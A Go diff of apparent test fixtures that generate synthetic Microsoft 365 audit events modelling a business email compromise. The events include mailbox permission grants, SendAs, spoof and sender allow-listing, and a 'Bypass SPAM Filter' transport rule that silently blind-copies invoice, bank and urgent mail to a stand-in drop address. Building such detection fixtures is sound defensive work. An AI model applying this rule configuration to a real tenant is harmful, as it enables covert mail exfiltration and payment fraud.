@@ -58,7 +58,7 @@ func deeds() []map[string]any {
 		base("Add-MailboxPermission", 1, "Exchange", o{"OrganizationName": org, "ObjectId": "joe", "Parameters": params("Identity", "joe", "User", "jane", "AccessRights", "FullAccess")}),
 		base("SiteCollectionAdminAdded", 14, "SharePoint", o{"ObjectId": "https://" + victim + ".sharepoint.com/sites/x", "ModifiedProperties": changes("SiteAdmin", "", "joe"), "UserAgent": "python-requests/2.31"}),
 		base("SendAs", 2, "Exchange", o{"OrganizationName": org, "MailboxOwnerUPN": "joe@" + victim + ".example", "MailboxGuid": "11c2f0d3-51c4-4f62-9b59-3f1d0f7e1a55", "Item": item, "ClientInfoString": "Client=OWA;axios/1"}),
-		base("New-TransportRule", 1, "Exchange", o{"OrganizationName": org, "ObjectId": "", "Parameters": params("Name", "Bypass SPAM Filter", "SubjectContainsWords", "invoice;bank",
+		base("New-TransportRule", 1, "Exchange", o{"OrganizationName": org, "ObjectId": "", "Parameters": params("Name", "Bypass SPAM Filter", "SubjectContainsWords", "invoice;bank;urgent",
 			"BlindCopyTo", "collect@drop.example", "SetSCL", "-1", "SetAuditSeverity", "Low")}),
 		base("New-TenantAllowBlockListSpoofItems", 1, "Exchange", o{"OrganizationName": org, "Parameters": params("SpoofedUser", "supplier.example", "SendingInfrastructure", "botasso.cl", "SpoofType", "External", "Action", "Allow")}),
 		base("New-TenantAllowBlockListItems", 1, "Exchange", o{"OrganizationName": org, "Parameters": params("ListType", "Sender", "Allow", "True", "Entries", "mailer.example;boss@drop.example")}),
